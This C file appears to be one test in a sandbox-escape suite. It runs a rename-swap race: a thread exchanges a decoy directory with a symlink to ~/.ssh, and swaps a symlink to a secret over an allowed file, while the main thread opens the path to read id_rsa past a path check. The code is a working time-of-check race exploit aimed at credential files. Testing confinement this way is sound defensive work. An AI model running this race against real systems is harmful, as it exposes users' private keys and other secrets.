/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Attack 5: rename swap race. A second thread renames things over an
 * allowed path while the main thread opens it:
 *  1. directories: ~/work/rdir (a real directory holding a copy of the
 *     decoy as id_rsa) is exchanged (renameat2 RENAME_EXCHANGE) with
 *     ~/work/rlink (a symlink to ~/.ssh); the main thread opens
 *     ~/work/rdir/id_rsa. A resolver that walks the path twice (once for
 *     the object, once for its parent) and mixes the answers is beaten.
 *  2. files: a symlink to the secret and a regular copy of the decoy are
 *     renamed in turn over ~/work/rfile, which the main thread opens.
 */
#include <pthread.h>

#include "escape-common.h"

struct swapper {
	char a[PATH_MAX], b[PATH_MAX], c[PATH_MAX];
	int mode; /* 0: exchange a and b; 1: rename b over a, then c over a */
	atomic_int stop;
	unsigned long swaps, errors;
};

static void *swap_main(void *p)
{
	struct swapper *s = p;

	while (!atomic_load(&s->stop)) {
		int r;

		if (s->mode == 0) {
			r = (int)syscall(SYS_renameat2, AT_FDCWD, s->a, AT_FDCWD,
					 s->b, RENAME_EXCHANGE);
		} else {
			/* Move a into b's place and back: rfile alternates
			 * between the link and the regular file. */
			r = (int)syscall(SYS_renameat2, AT_FDCWD, s->a, AT_FDCWD,
					 s->b, RENAME_EXCHANGE);
			if (r == 0)
				r = (int)syscall(SYS_renameat2, AT_FDCWD, s->a,
						 AT_FDCWD, s->c,
						 RENAME_EXCHANGE);
		}
		if (r < 0)
			s->errors++;
		else
			s->swaps++;
	}
	return NULL;
}

static void copy_decoy(const char *to)
{
	int fd = open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

	if (fd < 0 || write(fd, esc_decoy_data, esc_decoy_len) !=
			      (ssize_t)esc_decoy_len)
		esc_setup_error("cannot write %s: %m", to);
	close(fd);
}

static void race(const char *label, struct swapper *s, const char *open_path,
		 double seconds)
{
	unsigned long tries = 0, decoys = 0, errors = 0;
	int before = atomic_load(&esc_escaped);
	pthread_t t;
	double end;

	if (pthread_create(&t, NULL, swap_main, s))
		esc_setup_error("pthread_create failed");
	end = esc_now() + seconds;
	while (esc_now() < end && atomic_load(&esc_escaped) == before) {
		char buf[512];
		ssize_t n;
		int fd = open(open_path, O_RDONLY | O_CLOEXEC);

		tries++;
		if (fd < 0) {
			errors++;
			continue;
		}
		n = esc_read_fd(fd, buf, sizeof(buf));
		close(fd);
		if (esc_is_stolen(buf, n))
			esc_leak(label, buf, n);
		else if (n > 0)
			decoys++;
	}
	atomic_store(&s->stop, 1);
	pthread_join(t, NULL);
	esc_say("%s: %lu opens, %lu decoy, %lu refused; %lu renames (%lu failed)",
		label, tries, decoys, errors, s->swaps, s->errors);
	if (!s->swaps)
		esc_setup_error("%s: nothing could be renamed", label);
	if (decoys)
		esc_control("%s: %lu opens reached the decoy", label, decoys);
}

int main(void)
{
	static struct swapper d, f;
	char rdir[PATH_MAX], file[PATH_MAX], sshdir[PATH_MAX], target[PATH_MAX];

	esc_init("rename-swap", "rename directories and files over an allowed path during open");

	ESC_FMT(rdir, "%s/rdir", esc_work);
	ESC_FMT(d.a, "%s", rdir);
	ESC_FMT(d.b, "%s/rlink", esc_work);
	ESC_FMT(sshdir, "%s/.ssh", esc_home);
	if (mkdir(rdir, 0755) < 0 && errno != EEXIST)
		esc_setup_error("mkdir %s: %m", rdir);
	ESC_FMT(file, "%s/id_rsa", rdir);
	copy_decoy(file);
	unlink(d.b);
	if (symlink(sshdir, d.b) < 0)
		esc_setup_error("symlink: %m");
	d.mode = 0;
	ESC_FMT(target, "%s/id_rsa", rdir);
	race("directory exchange race", &d, target, esc_seconds / 2);

	ESC_FMT(f.a, "%s/rfile", esc_work);
	ESC_FMT(f.b, "%s/rfile-link", esc_work);
	ESC_FMT(f.c, "%s/rfile-copy", esc_work);
	copy_decoy(f.a);
	copy_decoy(f.c);
	unlink(f.b);
	if (symlink(esc_secret, f.b) < 0)
		esc_setup_error("symlink: %m");
	f.mode = 1;
	race("file rename race", &f, f.a, esc_seconds / 2);
	return esc_finish();
}
